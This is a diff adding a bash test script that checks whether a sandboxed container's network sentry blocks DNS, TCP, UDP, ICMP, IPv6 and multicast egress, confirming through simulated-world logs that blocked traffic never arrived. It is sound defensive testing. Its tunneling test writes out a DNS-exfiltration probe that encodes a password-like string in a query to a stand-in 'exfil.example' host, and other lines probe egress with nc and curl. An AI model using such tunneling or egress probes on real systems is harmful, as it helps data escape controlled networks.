@@ -1,0 +1,189 @@
+#!/bin/bash
+# ztests: the seeds' checks, run inside a started bottle against the
+# simulated world. Each asserts on what the bottle saw AND on what the world
+# logged (a blocked packet must not have arrived).
+# Usage: mk/ztest.sh NAME|all NAMEPLATE
+set -uo pipefail
+
+RB_BIN=${RB_BIN:-build/bin}
+WORLD=rb-world
+LOGDIR=/var/log/world
+
+np=$2
+case $np in */* | *.mk) file=$np ;; *) file=nameplates/$np.mk ;; esac
+env=$("$RB_BIN/rb-net-create" --check --print-env --nameplate "$file") || exit 1
+eval "$env"
+M=$RBRN_MONIKER
+BOTTLE=rb-$M-bottle
+SENTRY_IP=$RBRN_ENCLAVE_SENTRY_IP
+ICPT=$RBRN_UPLINK_DNS_INTERCEPT
+
+podman container exists "$BOTTLE" || { echo "ztest: $BOTTLE is not running: make bottle-start NAMEPLATE=$np" >&2; exit 1; }
+podman container exists "$WORLD" || { echo "ztest: the world is not running: make world-start" >&2; exit 1; }
+
+FAILS=0
+TAG=zt$$$RANDOM # a unique label: lets us look for *this run* in the world's logs
+
+in_bottle() { podman exec "$BOTTLE" "$@"; }
+world_log() { podman exec "$WORLD" cat "$LOGDIR/$1" 2>/dev/null; }
+ok() { echo "  ok:   $*"; }
+bad() { echo "  FAIL: $*"; FAILS=$((FAILS + 1)); }
+expect_ok() { local what=$1; shift; if in_bottle "$@" >/dev/null 2>&1; then ok "$what"; else bad "$what (command failed: $*)"; fi; }
+expect_fail() { local what=$1; shift; if in_bottle "$@" >/dev/null 2>&1; then bad "$what (command succeeded: $*)"; else ok "$what"; fi; }
+# dig's answer section, or nothing.
+answer() { in_bottle dig +short +time=2 +tries=1 "$@" 2>/dev/null | grep -E '^[0-9.]+$'; }
+status() { in_bottle dig +time=2 +tries=1 "$@" 2>/dev/null | sed -n 's/.*status: \([A-Z]*\),.*/\1/p'; }
+world_saw() { world_log "$1" | grep -q -- "$2"; }
+expect_world_not() { if world_saw "$1" "$2"; then bad "world $1 received '$2'"; else ok "world $1 did not receive '$2'"; fi; }
+expect_world() { if world_saw "$1" "$2"; then ok "world $1 received '$2'"; else bad "world $1 did not receive '$2'"; fi; }
+
+ztest_bottle_dns_allow() {
+	[ "$RBRN_UPLINK_DNS_ENABLED" = 1 ] || { ok "dns disabled: allow test does not apply"; return; }
+	local a; a=$(answer @"$SENTRY_IP" "$TAG.anthropic.com")
+	[ "$a" = 160.79.104.10 ] && ok "$TAG.anthropic.com resolves via the sentry" || bad "$TAG.anthropic.com via the sentry gave '$a'"
+	expect_world dns-8.8.8.8.log "$TAG.anthropic.com"
+}
+
+ztest_bottle_dns_block() {
+	local a s
+	if [ "$ICPT" = 1 ]; then
+		# Intercepted: the sentry answers by policy, the foreign server sees nothing.
+		a=$(answer @8.8.8.8 "$TAG-a.anthropic.com")
+		[ "$a" = 160.79.104.10 ] && ok "allowed name via 8.8.8.8 answered by the sentry" || bad "allowed name via 8.8.8.8 gave '$a'"
+		s=$(status @8.8.8.8 "$TAG.google.com")
+		[ "$s" = NXDOMAIN ] && ok "blocked name via 8.8.8.8 is NXDOMAIN" || bad "blocked name via 8.8.8.8 gave '$s'"
+		expect_world_not dns-8.8.8.8.log "$TAG.google.com"
+		s=$(status @1.1.1.1 "$TAG-c.anthropic.com")
+		expect_world_not dns-1.1.1.1.log "$TAG"
+	else
+		expect_fail "dig @8.8.8.8 anthropic.com" dig +time=2 +tries=1 @8.8.8.8 "$TAG.anthropic.com"
+		expect_fail "nc -w 2 -zv 8.8.8.8 53" nc -w 2 -zv 8.8.8.8 53
+		expect_world_not dns-8.8.8.8.log "$TAG.anthropic.com"
+	fi
+	ztest_bottle_dns_allow
+}
+
+ztest_bottle_dns_block_direct_rule() {
+	# The seed's failing test: direct DNS to 8.8.8.8 must be stopped by the
+	# sentry's FORWARD (or intercepted by its PREROUTING), never reach 8.8.8.8.
+	if [ "$ICPT" = 1 ]; then
+		s=$(status @8.8.8.8 "$TAG-d.google.com")
+		[ "$s" = NXDOMAIN ] && ok "direct query intercepted (NXDOMAIN)" || bad "direct query gave '$s'"
+	else
+		expect_fail "dig @8.8.8.8 anthropic.com" dig +time=2 +tries=1 @8.8.8.8 "$TAG-d.anthropic.com"
+		expect_fail "nc -w 2 -zv 8.8.8.8 53" nc -w 2 -zv 8.8.8.8 53
+	fi
+	expect_world_not dns-8.8.8.8.log "$TAG-d."
+}
+
+ztest_bottle_tcp443_allow() {
+	[ "$RBRN_UPLINK_ACCESS_ENABLED" = 1 ] || { expect_fail "no egress: 160.79.104.10:443" nc -w 2 -z 160.79.104.10 443; return; }
+	expect_ok "tcp 160.79.104.10:443 (allowed CIDR)" nc -w 2 -z 160.79.104.10 443
+	expect_world tcp-443.log "on AF=2 160.79.104.10:443"
+}
+
+ztest_bottle_tcp443_block() {
+	if [ "$RBRN_UPLINK_ACCESS_GLOBAL" = 1 ]; then
+		expect_ok "global access: tcp 198.51.100.7:443" nc -w 2 -z 198.51.100.7 443
+		return
+	fi
+	local before after
+	before=$(world_log tcp-443.log | grep -c 'on AF=2 198.51.100.7:443')
+	expect_fail "tcp 198.51.100.7:443 (unlisted)" nc -w 2 -z 198.51.100.7 443
+	expect_fail "tcp 93.184.216.34:443 (unlisted)" nc -w 2 -z 93.184.216.34 443
+	after=$(world_log tcp-443.log | grep -c 'on AF=2 198.51.100.7:443')
+	[ "$before" = "$after" ] && ok "world saw no connection to 198.51.100.7:443" || bad "world saw a connection to 198.51.100.7:443"
+}
+
+ztest_bottle_nonexistent() {
+	local s; s=$(status @"$SENTRY_IP" "$TAG-nx.example.invalid")
+	[ "$s" = NXDOMAIN ] && ok "unknown name is NXDOMAIN" || bad "unknown name gave '$s'"
+	expect_world_not dns-8.8.8.8.log "$TAG-nx.example.invalid"
+}
+
+ztest_bottle_dns_tcp_udp() {
+	if [ "$RBRN_UPLINK_DNS_ENABLED" = 1 ]; then
+		[ "$(answer +tcp @"$SENTRY_IP" "$TAG-t.anthropic.com")" = 160.79.104.10 ] && ok "DNS over TCP via the sentry" || bad "DNS over TCP via the sentry"
+		[ "$(answer +notcp @"$SENTRY_IP" "$TAG-u.anthropic.com")" = 160.79.104.10 ] && ok "DNS over UDP via the sentry" || bad "DNS over UDP via the sentry"
+	fi
+	[ "$ICPT" = 1 ] || expect_fail "DNS over TCP to 8.8.8.8" dig +tcp +time=2 +tries=1 @8.8.8.8 "$TAG-t2.anthropic.com"
+	expect_world_not dns-8.8.8.8.log "$TAG-t2."
+}
+
+ztest_bottle_altport() {
+	expect_fail "DNS to 8.8.8.8:5353" dig -p 5353 +time=2 +tries=1 @8.8.8.8 "$TAG-p.anthropic.com"
+	expect_fail "tcp 8.8.8.8:853 (DoT)" nc -w 2 -z 8.8.8.8 853
+	expect_fail "tcp 1.1.1.1:443 (DoH)" nc -w 2 -z 1.1.1.1 443
+	expect_world_not udp-5353.log "8.8.8.8:5353"
+	expect_world_not tcp-853.log "8.8.8.8:853"
+}
+
+ztest_bottle_cloudflare_quad9() {
+	local r
+	for r in 1.1.1.1 9.9.9.9; do
+		if [ "$ICPT" = 1 ]; then
+			[ "$(status @$r "$TAG-q.google.com")" = NXDOMAIN ] && ok "@$r intercepted" || bad "@$r not intercepted"
+		else
+			expect_fail "dig @$r" dig +time=2 +tries=1 @$r "$TAG-q.anthropic.com"
+		fi
+		expect_world_not "dns-$r.log" "$TAG-q."
+	done
+}
+
+ztest_bottle_zone_transfer() {
+	expect_fail "AXFR anthropic.com from the sentry" sh -c "dig +time=2 +tries=1 axfr anthropic.com @$SENTRY_IP | grep -q SOA"
+	expect_fail "AXFR anthropic.com from 8.8.8.8" sh -c "dig +time=2 +tries=1 axfr anthropic.com @8.8.8.8 | grep -q SOA"
+}
+
+ztest_bottle_ipv6() {
+	expect_fail "bottle has an IPv6 address" sh -c "ip -6 addr show | grep -q inet6"
+	expect_fail "tcp to [2001:db8::1]:443" nc -6 -w 2 -z 2001:db8::1 443
+	expect_fail "tcp to [fe80::1%eth0]:22" nc -6 -w 2 -z fe80::1%eth0 22
+}
+
+ztest_bottle_multicast() {
+	expect_fail "mDNS query to 224.0.0.251" sh -c "dig -p 5353 +time=1 +tries=1 @224.0.0.251 $TAG-m.local | grep -q 'status: NOERROR'"
+	expect_fail "udp to 239.255.255.250:1900" sh -c "echo x | nc -u -w 1 239.255.255.250 1900 && exit 1"
+	expect_world_not dns-8.8.8.8.log "$TAG-m."
+}
+
+ztest_bottle_tunneling() {
+	# Data in the labels of a name that is not allowed must never leave.
+	local data=$TAG-6b7a7a79726f6f747061737377726f6f74
+	[ "$(status @"$SENTRY_IP" "$data.exfil.example")" = NXDOMAIN ] && ok "exfil name answered NXDOMAIN locally" || bad "exfil name not NXDOMAIN"
+	expect_world_not dns-8.8.8.8.log "$data"
+	expect_fail "ICMP to 8.8.8.8" ping -c 1 -W 1 8.8.8.8
+	expect_fail "UDP to 160.79.104.10:5000 is only allowed via the CIDR" sh -c "[ $RBRN_UPLINK_ACCESS_ENABLED = 1 ] && exit 1; echo x | nc -u -w 1 160.79.104.10 5000 | grep -q world"
+}
+
+ztest_bottle_package_manager() {
+	expect_fail "curl http://deb.debian.org/" curl -sS --max-time 3 -o /dev/null http://deb.debian.org/
+	expect_fail "curl http://93.184.216.34/ by address" curl -sS --max-time 3 -o /dev/null http://93.184.216.34/
+	expect_world_not dns-8.8.8.8.log "deb.debian.org"
+}
+
+ztest_bottle_icmp() {
+	expect_ok "ping the sentry" ping -c 1 -W 2 "$SENTRY_IP"
+	expect_fail "ping 8.8.8.8" ping -c 1 -W 1 8.8.8.8
+	expect_fail "ping 160.79.104.10" ping -c 1 -W 1 160.79.104.10
+}
+
+ZTESTS="dns_allow dns_block dns_block_direct_rule tcp443_allow tcp443_block nonexistent dns_tcp_udp
+altport cloudflare_quad9 zone_transfer ipv6 multicast tunneling package_manager icmp"
+
+run() {
+	echo "ztest_bottle_$1 ($M, intercept=$ICPT)"
+	"ztest_bottle_$1"
+}
+
+if [ "$1" = all ]; then
+	for t in $ZTESTS; do run "$t"; done
+else
+	name=${1#ztest_bottle_}
+	case " $(echo $ZTESTS) " in *" $name "*) run "$name" ;; *) echo "ztest: unknown test $1" >&2; exit 1 ;; esac
+fi
+if [ $FAILS -gt 0 ]; then
+	echo "ztest: $FAILS failed"
+	exit 3
+fi
+echo "ztest: all passed"
